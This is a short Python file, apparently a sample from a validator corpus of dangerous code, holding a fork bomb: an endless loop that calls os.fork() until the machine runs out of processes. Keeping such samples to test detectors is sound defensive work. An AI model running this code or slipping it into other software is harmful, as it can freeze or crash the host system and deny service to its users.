# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import os

while True:
    os.fork()
